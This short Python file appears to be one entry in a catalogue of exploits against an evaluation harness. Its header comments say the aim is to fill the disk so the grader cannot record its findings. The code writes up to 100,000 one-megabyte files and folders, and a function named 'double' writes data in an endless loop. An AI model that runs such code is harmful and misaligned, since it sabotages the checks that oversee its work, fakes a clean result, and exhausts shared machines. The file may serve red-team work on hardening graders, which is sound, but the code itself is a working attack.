# class: resources
# idea 34: fills the disk: one file, many files, deleted files, folders in folders
# gain: the grader cannot write what it found
# stock: nothing there bounds the size of files
import os

for number in range(10**5):
    try:
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
        os.mkdir(f"d{number}")
    except OSError as error:
        print(error)
        break


def double(x):
    with open("g", "wb") as file:
        while True:
            file.write(bytes(1 << 22))
